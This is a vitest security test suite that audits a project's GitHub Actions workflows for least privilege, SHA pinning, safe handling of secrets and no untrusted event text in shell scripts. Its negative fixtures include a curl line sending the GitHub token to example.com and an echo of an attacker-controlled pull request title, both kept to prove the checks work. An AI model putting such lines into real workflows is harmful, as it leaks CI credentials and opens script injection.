// A security review of every workflow in .github/workflows/ and of the workflows `mapsync init`
// writes, as rules any new workflow must also pass: no default token permissions, least privilege
// per job, no pull_request_target, no attacker-controlled ${{ github.event.* }} expanded into a
// shell script, every action pinned to a full commit SHA, and credentials handed only to the steps
// that run mapsync — through the pinned mapsync action, never code from the pull request.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../helpers/cli.js';
import { generatedWorkflows, type WorkflowText } from '../helpers/generatedWorkflows.js';

const DIR = join(REPO_ROOT, '.github/workflows');

type Permissions = Record<string, string> | 'read-all' | 'write-all' | string | undefined;
interface Step { name?: string; id?: string; uses?: string; run?: string; env?: Record<string, unknown>; with?: Record<string, unknown>; if?: string }
interface Job { permissions?: Permissions; steps?: Step[]; uses?: string; env?: Record<string, unknown>; secrets?: unknown }
interface Workflow { on?: unknown; true?: unknown; permissions?: Permissions; env?: Record<string, unknown>; jobs: Record<string, Job> }

/** Scopes a job may write to, and why; anything else must be read or none. */
const WRITABLE = new Set(['pull-requests', 'issues']);
/**
 * The jobs that may write contents: drift pushes the mapsync/suggestions branch (git database
 * API); apply (behind the production environment) holds the lock ref refs/mapsync/locks/<store>.
 */
const CONTENTS_WRITERS = ['drift.yml job drift', 'apply.yml job apply'];
const mayWriteContents = (where: string) => CONTENTS_WRITERS.some((w) => where.endsWith(w));

const manifest = JSON.parse(await readFile(join(REPO_ROOT, 'package.json'), 'utf8')) as { version: string; repository: { url: string } };
const REPOSITORY = /github\.com\/([\w.-]+\/[\w.-]+?)(\.git)?$/.exec(manifest.repository.url)![1]!;
/**
 * The one action not pinned by SHA: the mapsync action in the workflows `init` writes, named by
 * the installed package's version (the package does not know its own commit; `init --action-ref
 * SHA` pins it).
 */
const MAPSYNC_AT_VERSION = `${REPOSITORY}@v${manifest.version}`;
const isMapsyncAction = (uses: string | undefined) => uses !== undefined && (uses === './' || uses.startsWith(`${REPOSITORY}@`));

let generated: WorkflowText[];
beforeAll(async () => {
  generated = await generatedWorkflows();
});

async function workflows(): Promise<{ file: string; workflow: Workflow }[]> {
  const files = (await readdir(DIR)).filter((f) => /\.ya?ml$/.test(f)).sort();
  const own = await Promise.all(files.map(async (file) => ({ file, workflow: parse(await readFile(join(DIR, file), 'utf8')) as Workflow })));
  return [...own, ...generated.map(({ file, text }) => ({ file, workflow: parse(text) as Workflow }))];
}

function triggers(workflow: Workflow): string[] {
  // YAML 1.1 readers turn `on` into true; the yaml package (1.2) keeps "on".
  const on = workflow.on ?? workflow.true;
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  return Object.keys((on ?? {}) as object);
}

/** Problems with a permissions block; `{}` and read-only maps are fine. */
function permissionProblems(where: string, permissions: Permissions, allowWrite: boolean): string[] {
  if (permissions === undefined) return [`${where}: no permissions block (the token would get the repository default)`];
  if (typeof permissions === 'string') return permissions === 'read-all' && allowWrite ? [] : [`${where}: permissions: ${permissions}`];
  const problems: string[] = [];
  for (const [scope, level] of Object.entries(permissions)) {
    if (level === 'read' || level === 'none') continue;
    if (level === 'write' && allowWrite && WRITABLE.has(scope)) continue;
    if (level === 'write' && allowWrite && scope === 'contents' && mayWriteContents(where)) continue;
    problems.push(`${where}: ${scope}: ${level}`);
  }
  return problems;
}

/** `${{ … }}` expressions in a text. */
const expressions = (text: string): string[] => [...text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)].map((m) => m[1]!.trim());

// Event fields an outsider controls (titles, bodies, branch names, commit messages, …) and
// free-text inputs. Some event fields are harmless (numbers, SHAs), but the rule is simply: none
// in scripts — pass them through env: and quote "$VAR" in the script.
const UNTRUSTED = /\bgithub\.event\b|\bgithub\.head_ref\b|\binputs\./;

const runsMapsync = (step: Step): boolean => isMapsyncAction(step.uses);

/**
 * In a pull_request workflow, the local action (`uses: ./`) is the checkout at the workspace root:
 * it must be the base branch (the reviewed code), with the pull request's files checked out beside it.
 */
function localActionProblems(file: string, workflow: Workflow): string[] {
  if (!triggers(workflow).includes('pull_request')) return [];
  const problems: string[] = [];
  for (const [name, job] of Object.entries(workflow.jobs)) {
    const steps = job.steps ?? [];
    if (!steps.some((s) => s.uses === './')) continue;
    const rootCheckout = steps.find((s) => s.uses?.startsWith('actions/checkout@') && s.with?.path === undefined);
    if (rootCheckout?.with?.ref !== '${{ github.event.pull_request.base.sha }}') problems.push(`${file} job ${name}: uses ./ on a pull request, but the workspace root is not the base branch`);
  }
  return problems;
}

describe('security rules for every workflow in .github/workflows/', () => {
  it('finds the workflows', async () => {
    expect((await workflows()).length).toBeGreaterThanOrEqual(3);
  });

  it('denies all permissions at the top and grants each job only read access, or write to pull requests / issues (and contents for the drift job\'s suggestions branch and the apply job\'s lock ref)', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      problems.push(...permissionProblems(`${file} (top level)`, workflow.permissions, false));
      for (const [name, job] of Object.entries(workflow.jobs)) problems.push(...permissionProblems(`${file} job ${name}`, job.permissions, true));
    }
    expect(problems).toEqual([]);
  });

  it('never runs on pull_request_target or workflow_run (fork code with secrets)', async () => {
    for (const { file, workflow } of await workflows()) {
      expect(triggers(workflow), file).not.toContain('pull_request_target');
      expect(triggers(workflow), file).not.toContain('workflow_run');
    }
  });

  it('never expands github.event.* (or other outsider-controlled text) inside a run: script', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const step of job.steps ?? []) {
          for (const expr of expressions(step.run ?? '')) {
            if (UNTRUSTED.test(expr)) problems.push(`${file} job ${name} step "${step.name ?? step.run}": \${{ ${expr} }} in run:`);
          }
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('pins every action and reusable workflow to a full 40-character commit SHA', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      for (const [name, job] of Object.entries(workflow.jobs)) {
        const uses = [job.uses, ...(job.steps ?? []).map((s) => s.uses)].filter((u): u is string => typeof u === 'string');
        for (const u of uses) {
          if (u.startsWith('./')) continue; // a local action is part of this repository
          if (u === MAPSYNC_AT_VERSION && file.startsWith('init ')) continue;
          if (!/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/.test(u)) problems.push(`${file} job ${name}: ${u}`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('hands secrets (and the GitHub token) only to the env: of steps that run mapsync', async () => {
    const problems: string[] = [];
    const secretish = (value: unknown) => typeof value === 'string' && /\bsecrets\.|\bgithub\.token\b/.test(value);
    for (const { file, workflow } of await workflows()) {
      for (const [key, value] of Object.entries(workflow.env ?? {})) if (secretish(value)) problems.push(`${file}: workflow-level env ${key}`);
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const [key, value] of Object.entries(job.env ?? {})) if (secretish(value)) problems.push(`${file} job ${name}: job-level env ${key}`);
        if (job.secrets !== undefined) problems.push(`${file} job ${name}: passes secrets to a reusable workflow`);
        for (const step of job.steps ?? []) {
          const label = `${file} job ${name} step "${step.name ?? step.uses ?? step.run}"`;
          if (expressions(step.run ?? '').some((e) => /\bsecrets\.|\bgithub\.token\b/.test(e))) problems.push(`${label}: secret expanded inside run:`);
          for (const [key, value] of Object.entries(step.with ?? {})) if (secretish(value)) problems.push(`${label}: secret in with.${key}`);
          const secretEnv = Object.entries(step.env ?? {}).filter(([, v]) => secretish(v)).map(([k]) => k);
          if (secretEnv.length > 0 && !runsMapsync(step)) problems.push(`${label}: gets ${secretEnv.join(', ')} but does not run mapsync`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('generated workflows are among those checked (both CRMs, all three)', async () => {
    expect((await workflows()).filter((w) => w.file.startsWith('init --crm ')).length).toBe(6);
  });

  it('never runs a pull request\'s own code with secrets: mapsync runs from the pinned action, or from the base branch checkout (uses: ./)', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      problems.push(...localActionProblems(file, workflow));
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const step of job.steps ?? []) {
          // No step of a workflow runs npm, npx or node itself: that would run the checkout's package.json or node_modules.
          if (/^\s*(npm|npx|node|yarn|pnpm)\b/m.test(step.run ?? '')) problems.push(`${file} job ${name} step "${step.name}": runs ${step.run!.trim().split(/\s/)[0]} in the checkout`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('the pull-request rule is live: uses ./ after checking out the pull request is caught', () => {
    const bad = parse(`
on: pull_request
jobs:
  plan:
    steps:
      - uses: actions/checkout@${'a'.repeat(40)}
      - uses: ./
        env:
          SF_ACCESS_TOKEN: \${{ secrets.SF_ACCESS_TOKEN }}
`) as Workflow;
    expect(localActionProblems('bad.yml', bad)).toEqual(['bad.yml job plan: uses ./ on a pull request, but the workspace root is not the base branch']);
  });

  it('checks out without persisting the token in .git/config', async () => {
    for (const { file, workflow } of await workflows()) {
      for (const job of Object.values(workflow.jobs)) {
        for (const step of (job.steps ?? []).filter((s) => s.uses?.startsWith('actions/checkout@'))) {
          expect(step.with?.['persist-credentials'], file).toBe(false);
        }
      }
    }
  });

  it('the rules catch a workflow that breaks them (they are live)', () => {
    const bad = parse(`
on: pull_request_target
permissions: write-all
env:
  TOKEN: \${{ secrets.SF_ACCESS_TOKEN }}
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: echo "\${{ github.event.pull_request.title }}"
      - run: 'curl -H "Authorization: \${{ secrets.GITHUB_TOKEN }}" https://example.com'
`) as Workflow;
    expect(triggers(bad)).toContain('pull_request_target');
    expect(permissionProblems('bad', bad.permissions, false)).toEqual(['bad: permissions: write-all']);
    expect(permissionProblems('bad job x', bad.jobs.x!.permissions, true)).toHaveLength(1);
    const steps = bad.jobs.x!.steps!;
    expect(steps[0]!.uses).not.toMatch(/@[0-9a-f]{40}$/);
    expect(expressions(steps[1]!.run!).some((e) => UNTRUSTED.test(e))).toBe(true);
    expect(expressions(steps[2]!.run!).some((e) => /\bsecrets\./.test(e))).toBe(true);
  });
});
